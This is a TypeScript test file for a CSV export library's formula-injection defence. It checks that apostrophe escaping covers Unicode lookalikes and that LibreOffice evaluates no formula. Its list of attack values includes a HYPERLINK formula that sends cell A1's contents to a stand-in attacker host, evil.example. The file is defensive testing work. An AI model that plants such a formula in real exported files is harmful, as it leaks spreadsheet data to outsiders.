import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEvent } from '@otel-audit/contract';
import { neutralizeFormulas, restoreFormulas } from '../src/neutralize-formulas.js';
import { csvStream, EXPORT_FORMAT_DEFAULTS } from '../src/internal/export-writers.js';
import { convertWithLibreOffice, csvImportFilter, libreOfficeNote, skipLibreOffice, type CsvImport } from '../../test/support/libreoffice.js';

const ASCII_BREAKS = [',', ';', '|', '\t', '\r', '\n', ' ', '"'];
const ASCII_TRIGGERS = ['=', '+', '-', '@'];
const fold = (c: string) => c.normalize('NFKC');

/** Every character whose NFKC form is `targets`, computed over all of Unicode. */
function lookalikes(targets: string[]): string[] {
  const out: string[] = [];
  for (let cp = 0x80; cp <= 0x10ffff; cp++) {
    if (cp >= 0xd800 && cp <= 0xdfff) continue;
    const c = String.fromCodePoint(cp);
    if (targets.includes(fold(c))) out.push(c);
  }
  return out;
}

describe('neutralizeFormulas', () => {
  it('guards a trigger at the start and after every character a spreadsheet may split on or strip', () => {
    const cases: Array<[string, string]> = [
      ['=1+1', "'=1+1"],
      ['+1', "'+1"],
      ['-2+3', "'-2+3"],
      ['@SUM(1)', "'@SUM(1)"],
      ['x;=1+1;y', "x;'=1+1;y"],
      ['x,=1+1,y', "x,'=1+1,y"],
      ['x\t=1+1\ty', "x\t'=1+1\ty"],
      ['x|=1+1', "x|'=1+1"],
      ['x\n=1+1\r-2', "x\n'=1+1\r'-2"],
      ['x =1+1', "x '=1+1"],
      ['x; =1+1', "x; '=1+1"],
      ['x;"=1+1"', 'x;"\'=1+1"'],
      ['\t=1', "\t'=1"],
      // Full-width and other lookalikes count as what they look like, and stay as they are.
      ['＝1+1', "'＝1+1"],
      ['x；＋1', "x；'＋1"],
      ['a\u3000﹣1', "a\u3000'﹣1"],
      ['x\u00a0＠A1', "x\u00a0'＠A1"],
      // An apostrophe where one would be inserted is doubled; elsewhere it is left alone.
      ["'=1+1", "''=1+1"],
      ["'quoted'", "''quoted'"],
      ["x, 'y", "x, ''y"],
      ["O'Brien", "O'Brien"],
      // Triggers inside a word are not at a split point.
      ['a=b', 'a=b'],
      ['2026-11-22T03:04:05.678+01:00', '2026-11-22T03:04:05.678+01:00'],
      ['user@example.com', 'user@example.com'],
      ['Mozilla/5.0 (X11; Linux x86_64)', 'Mozilla/5.0 (X11; Linux x86_64)'],
      ['', ''],
    ];
    for (const [value, expected] of cases) {
      expect(neutralizeFormulas(value), JSON.stringify(value)).toBe(expected);
      expect(restoreFormulas(expected), JSON.stringify(expected)).toBe(value);
    }
  });

  it('knows every character whose NFKC form is a break, a trigger or an apostrophe', () => {
    for (const c of lookalikes(ASCII_BREAKS)) {
      expect(neutralizeFormulas(`x${c}=1`), `U+${c.codePointAt(0)!.toString(16)}`).toBe(`x${c}'=1`);
    }
    for (const c of lookalikes([...ASCII_TRIGGERS, "'"])) {
      expect(neutralizeFormulas(`x,${c}1`), `U+${c.codePointAt(0)!.toString(16)}`).toBe(`x,'${c}1`);
    }
  });

  // Biased towards the characters the rule is about, so that the cases hit it often.
  const special = [...ASCII_BREAKS, ...ASCII_TRIGGERS, "'", '＝', '；', '\u3000', '＇', 'a', '1', '🦄', '\ud800'];
  const cell = fc.oneof(
    fc.string({ unit: fc.constantFrom(...special), maxLength: 30 }),
    fc.string({ unit: 'grapheme', maxLength: 30 }),
    fc.string({ unit: 'binary', maxLength: 30 }),
  );

  it('is undone exactly by restoreFormulas', () => {
    fc.assert(fc.property(cell, (s) => restoreFormulas(neutralizeFormulas(s)) === s), { numRuns: 5_000 });
  });

  it('leaves no trigger, lookalike or not, at the start or after a break character', () => {
    const isBreak = (c: string) => ASCII_BREAKS.includes(fold(c));
    fc.assert(
      fc.property(cell, (s) => {
        const out = neutralizeFormulas(s);
        for (let i = 0; i < out.length; i++) {
          if ((i === 0 || isBreak(out[i - 1]!)) && ASCII_TRIGGERS.includes(fold(out[i]!))) return false;
        }
        return true;
      }),
      { numRuns: 5_000 },
    );
  });
});

// Attack values for readers that split on another character than the file's delimiter,
// strip spaces or quotes, or ignore quotes (then line breaks split rows).
const ATTACKS = [
  'x;=1+1;y',
  'x,=1+1,y',
  'x\t=1+1\ty',
  'x|=1+1|y',
  'x =1+1',
  'x; =1+1',
  'x;"=1+1"',
  'x\n=1+1',
  'x\r\n=1+1',
  '＝1+1',
  'x;＝1+1',
  '@SUM(1)',
  '-2+3',
  '+4+1',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "'=1+1",
];

function attackEvent(n: number, value: string): AuditEvent {
  return {
    id: `0190a0b0-0000-7000-8000-${String(n).padStart(12, '0')}`,
    time: '2026-11-22T03:04:05.678Z',
    action: 'auth.login',
    category: 'authentication',
    outcome: 'failure',
    actor: { id: `u-${n}`, name: value, type: 'user' },
    resource: { type: 'doc', name: `a,${value}` },
    client: { userAgent: `${value};b` },
    message: `m;${value}`,
  };
}

async function* from<T>(items: Iterable<T>): AsyncGenerator<T> {
  for (const item of items) yield item;
}

const COLUMNS = ['user', 'target', 'userAgent', 'details'] as const;

async function readCells(path: string) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const cells: Array<{ address: string; value: ExcelJS.CellValue }> = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((c) => cells.push({ address: c.address, value: c.value }))));
  return cells;
}

describe('CSV opened by LibreOffice Calc with formula evaluation on', () => {
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'otel-audit-csv-formulas-'));
    const events = ATTACKS.map((value, i) => attackEvent(i, value));
    for (const delimiter of [',', ';'] as const) {
      const csv = await buffer(csvStream(from(events), { ...EXPORT_FORMAT_DEFAULTS, columns: [...COLUMNS], delimiter }));
      writeFileSync(join(dir, delimiter === ',' ? 'comma.csv' : 'semicolon.csv'), csv);
    }
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const imports: Array<[string, CsvImport]> = [
    ['comma', { separators: [','], quotes: true, trimSpaces: true }],
    ['semicolon', { separators: [';'], quotes: true, trimSpaces: true }],
    ['tab', { separators: ['\t'], quotes: true, trimSpaces: true }],
    ['pipe, quotes ignored', { separators: ['|'], quotes: false, trimSpaces: true }],
    ['space, quotes ignored', { separators: [' '], quotes: false, trimSpaces: true }],
    ['all of , ; tab | space, quotes ignored', { separators: [',', ';', '\t', '|', ' '], quotes: false, trimSpaces: true }],
    ['all of , ; tab | space', { separators: [',', ';', '\t', '|', ' '], quotes: true, trimSpaces: false }],
  ];

  it.skipIf(skipLibreOffice).each(imports)(
    `holds no formula and no computed value when split on %s${libreOfficeNote}`,
    async (name, options) => {
      const out = join(dir, name.replace(/\W+/g, '-'));
      const files = await convertWithLibreOffice([join(dir, 'comma.csv'), join(dir, 'semicolon.csv')], 'xlsx', out, csvImportFilter(options));
      for (const file of files) {
        const cells = await readCells(file);
        expect(cells.length).toBeGreaterThan(ATTACKS.length);
        for (const { address, value } of cells) {
          // A formula is an object ({ formula, result }), a computed value a number or an error.
          expect(typeof value, `${file} ${address}: ${JSON.stringify(value)}`).toBe('string');
          expect(String(value), `${file} ${address}`).not.toMatch(/^[=+\-@＝＋－＠]|#NAME\?|#VALUE!/);
        }
      }
    },
    180_000,
  );

  it.skipIf(skipLibreOffice)(
    `shows every value, apostrophes included, in its own cell when read with the file's delimiter${libreOfficeNote}`,
    async () => {
      const out = join(dir, 'own-delimiter');
      const [comma] = await convertWithLibreOffice([join(dir, 'comma.csv')], 'xlsx', out, csvImportFilter({ separators: [','], quotes: true, trimSpaces: false }));
      const [semicolon] = await convertWithLibreOffice([join(dir, 'semicolon.csv')], 'xlsx', join(out, 'semi'), csvImportFilter({ separators: [';'], quotes: true, trimSpaces: false }));
      for (const file of [comma!, semicolon!]) {
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.readFile(file);
        const rows = (workbook.worksheets[0]!.getSheetValues() as unknown[][]).slice(1).map((r) => r.slice(1));
        expect(rows[0]).toEqual(['User', 'Target', 'User agent', 'Details']);
        ATTACKS.forEach((value, i) => {
          // LibreOffice keeps CR LF inside a quoted cell as LF.
          const shown = (s: string) => neutralizeFormulas(s).replace(/\r\n/g, '\n');
          expect(rows[i + 1], JSON.stringify(value)).toEqual([shown(value), shown(`a,${value}`), shown(`${value};b`), shown(`m;${value}`)]);
          expect(restoreFormulas(rows[i + 1]![0] as string)).toBe(value.replace(/\r\n/g, '\n'));
        });
      }
    },
    180_000,
  );
});
